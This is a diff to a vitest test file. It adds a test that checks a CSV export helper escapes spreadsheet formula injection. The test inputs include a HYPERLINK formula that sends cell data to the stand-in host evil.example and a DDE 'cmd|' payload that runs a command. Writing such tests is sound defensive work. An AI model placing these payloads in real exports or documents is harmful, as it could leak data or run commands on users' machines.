@@ -8,7 +8,7 @@ import { afterEach, describe, expect, it } from "vitest";
 import type { Env } from "../src/env";
 import { scheduled } from "../src/scheduler/scheduled";
 import { ACTIVITY_RETENTION_MS } from "../src/services/activities";
-import { csvField } from "../src/services/activity-export";
+import { csvField } from "../src/services/csv";
 import { AUDIT_DELETE_BATCH, AUDIT_DELETE_ROUNDS } from "../src/services/activity-retention";
 import { ACTIONS, summarize } from "../src/services/activity-summaries";
 import { OPERATOR_TOKEN, call, createLambda, createSecret, deployed, distinctive, env, json, newAccount, uniqueName, type TestAccount } from "./helpers/api";
@@ -342,6 +342,16 @@ describe("activity stream: CSV export", () => {
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField("two\nlines")).toBe('"two\nlines"');
     expect(csvField("cr\rhere")).toBe('"cr\rhere"');
+  });
+
+  it("neutralises what a spreadsheet would run as a formula: a leading =, +, -, @, tab or carriage return", () => {
+    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"open")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`);
+    expect(csvField("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
+    expect(csvField("-2+3")).toBe("'-2+3");
+    expect(csvField("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
+    expect(csvField("\t=1")).toBe("'\t=1");
+    expect(csvField("\r=1")).toBe(`"'\r=1"`);
+    expect(csvField("a = b, 3 - 1 @ noon")).toBe("a = b, 3 - 1 @ noon"); // only the first character counts
   });
 
   it("streams every row of the filter in pages, newest first, as an attachment with the header", async () => {
